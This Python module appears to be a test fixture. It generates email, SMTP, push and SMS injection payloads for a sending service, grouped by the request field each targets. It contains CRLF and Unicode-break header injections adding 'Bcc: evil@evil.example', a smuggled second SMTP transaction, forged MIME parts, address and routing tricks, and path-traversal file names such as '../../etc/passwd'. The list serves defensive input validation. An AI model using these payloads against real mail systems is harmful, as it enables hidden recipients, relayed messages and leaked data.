"""Texts that would write a header, a part or a mail of their own, by the field that they are put into."""

from collections.abc import Iterator
from dataclasses import dataclass
from enum import Enum

EVIL = "evil@evil.example"
"""Whom nobody may ever write to."""


class Door(Enum):
    """A field of a request that becomes part of a header, an envelope or a body."""

    SUBJECT = "subject"
    DISPLAY_NAME = "display name"
    ADDRESS = "address"
    VARIABLE = "variable of a template"
    TEXT = "text"
    HTML = "html"
    FILE_NAME = "file name"
    MEDIA_TYPE = "media type"
    CONTENT_ID = "content id"
    COLLAPSE_KEY = "collapse key"
    BUNDLE_ID = "bundle id"
    EVENT_ID = "event id"
    SMS = "text message"
    FROM_NAME = "name of the account's sender"
    FROM_ADDRESS = "address of the account's sender"


OF_THE_ACCOUNT = (Door.FROM_NAME, Door.FROM_ADDRESS)
OF_A_PUSH = (Door.COLLAPSE_KEY, Door.BUNDLE_ID)
ONE_LINE = frozenset(Door) - {Door.VARIABLE, Door.TEXT, Door.HTML, Door.SMS}
"""Nothing with a line break or NUL passes here."""


@dataclass(frozen=True, slots=True)
class Payload:
    """One text at one door."""

    door: Door
    text: str

    @property
    def breaks(self) -> bool:
        """Whether it must be refused at the edge."""
        return (self.door in ONE_LINE and any(mark in self.text for mark in "\r\n\0")) or "\0" in self.text


_BREAKS = ("\r\n", "\n", "\r", "\r\r\n", "\n\r", "\x00", "\x0b", "\x0c", "\x1c", "\x1d", "\x85", "\u2028", "\u2029")
_TRICKS = (
    "=?utf-8?B?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=",
    "=?utf-8?Q?Hi=0D=0ABcc:_evil@evil.example?=",
    "=?utf-7?Q?+AA0ACg-Bcc:_evil@evil.example?=",
    "=?utf-8?B?=?utf-8?B?QQ==?=?=",
    "=?us-ascii?q?a?= =?us-ascii?q?b?=",
    f'"Shop" <{EVIL}>',
    f"Shop <{EVIL}>, other",
    f"friends: {EVIL};",
    f"Shop ({EVIL})",
    'a"b\\c',
    "\\",
    '"',
    "\u202egnp.exe",
    "%0d%0aBcc: evil@evil.example",
    "\\r\\nBcc: evil@evil.example",
    "\u560d\u560aBcc: evil@evil.example",  # cut to a byte each, the two letters are CR and LF
    "\uff0e\uff20",
)
_LONG = ("a" * 900, "a " * 450, "\u00e9" * 400, "\U0001f600" * 200)
_ENDS = (
    "\r\n.\r\n",
    "\n.\n",
    "\n.\r\n",
    "\r\n.\n",
    "\r.\r",
    "\r.\r\n",
    "\r\n.\r",
    "\n.\r",
    "\r\n\x0b.\r\n",
    "\x85.\x85",
    "\u2028.\u2028",
)
_SECOND = f"MAIL FROM:<{EVIL}>\r\nRCPT TO:<{EVIL}>\r\nDATA\r\nSubject: second\r\n\r\nx\r\n.\r\n"
_BODIES = (
    ".",
    "..",
    ".\r\n.\r\n.",
    "\r\n.",
    "a\r\n..\r\nb",
    "\r\n--=_0123456789abcdef01234567\r\nContent-Type: text/html\r\n\r\n<b>forged</b>",
    "\r\n--=_0123456789abcdef01234567--\r\n",
    "Content-Type: text/html\r\n\r\nBcc: " + EVIL,
    "From " + EVIL,
    "x" * 5_000,
    "=0D=0A.=0D=0A",
    "\ufeff.\r\n",
    "QUIT\r\n",
    "RSET\r\nMAIL FROM:<>\r\n",
)
_ADDRESSES = (
    f"a@b.example,{EVIL}",
    f"a@b.example {EVIL}",
    f"a@b.example;{EVIL}",
    f"<a@b.example>,<{EVIL}>",
    "<a@b.example>",
    "a@b.example>",
    f"a@b.example> ORCPT=rfc822;{EVIL}",
    "a@b.example> NOTIFY=NEVER",
    '"a b"@b.example',
    '"a\\"b"@b.example',
    f'"{EVIL} "@b.example',
    f"{EVIL}@b.example",
    f"@evil.example:{EVIL}",
    f"@b.example,@evil.example:{EVIL}",
    "a@[127.0.0.1]",
    "a@[IPv6:::1]",
    "a@localhost",
    "a@b..example",
    "a@-b.example",
    "a@b.example.",
    "a@b.example:25",
    "a@b.example?bcc=" + EVIL,
    "a\t@b.example",
    "a @b.example",
    "\u00e9@b.example",
    "a\u200b@b.example",
    "a@b\uff0eexample",
    "a@evil.example\u2024b.example",
    "a" * 65 + "@b.example",
    "a@" + "b." * 130 + "example",
    "=?utf-8?q?a?=@b.example",
    "postmaster",
)
_FILES = (
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\a",
    "..",
    ".",
    'a"; name="b.exe',
    "a;filename=b.exe",
    "a.png\u2066",
    "a%00.exe",
    "=?utf-8?Q?a.exe?=",
    "a'b.png",
    "\u00e9.png",
    "CON",
    " a.png ",
)
_TYPES = (
    "text/html; charset=utf-7",
    "multipart/mixed",
    "multipart/mixed; boundary=x",
    "message/rfc822",
    "message/external-body",
    "image/png\n",
    "a/b/c",
    "text",
    "*/*",
    'image/png"',
    "image/p\u0144g",
    "image /png",
    "/",
)
_IDS = ("a>", "<a>", "a b", "a@b", "a\r\nX: y", "\u00e9", "a" * 65, 'a"')


def payloads() -> list[Payload]:
    """All of them, each different."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[Payload]:
    for door in (Door.SUBJECT, Door.DISPLAY_NAME, Door.VARIABLE, Door.FROM_NAME):
        yield from (Payload(door, f"Hello{mark}Bcc: {EVIL}") for mark in _BREAKS)
        yield from (Payload(door, text) for text in _TRICKS)
        yield from (Payload(door, text) for text in _LONG)
    for door in (Door.SUBJECT, Door.DISPLAY_NAME):
        yield from (Payload(door, f"Hello{mark}\tfolded") for mark in _BREAKS[:4])
        yield from (Payload(door, f"Hello{mark}{mark}<b>body</b>") for mark in _BREAKS[:4])
    for door in (Door.TEXT, Door.HTML, Door.VARIABLE):
        yield from (Payload(door, f"x{end}{_SECOND}") for end in _ENDS)
        yield from (Payload(door, text) for text in _BODIES)
    for door in (Door.COLLAPSE_KEY, Door.BUNDLE_ID, Door.EVENT_ID, Door.FILE_NAME, Door.MEDIA_TYPE, Door.CONTENT_ID):
        yield from (Payload(door, f"a{mark}x: y") for mark in _BREAKS)
    for door in (Door.COLLAPSE_KEY, Door.BUNDLE_ID):
        yield from (
            Payload(door, text)
            for text in (" a", "a ", "a: b", ":path", "\u00e9", "\u202ea", "a,b", "a\tb", '"', "a" * 64)
        )
    yield from (Payload(Door.ADDRESS, f"a{mark}@b.example") for mark in _BREAKS)
    yield from (Payload(Door.ADDRESS, f"a@b.example{mark}Bcc: {EVIL}") for mark in _BREAKS)
    yield from (Payload(Door.ADDRESS, text) for text in _ADDRESSES)
    yield from (Payload(Door.FROM_ADDRESS, f"a@b.example{mark}Bcc: {EVIL}") for mark in _BREAKS)
    yield from (Payload(Door.FILE_NAME, text) for text in _FILES)
    yield from (Payload(Door.MEDIA_TYPE, text) for text in _TYPES)
    yield from (Payload(Door.CONTENT_ID, text) for text in _IDS)
    yield from (Payload(Door.SMS, f"a{mark}b") for mark in _BREAKS)
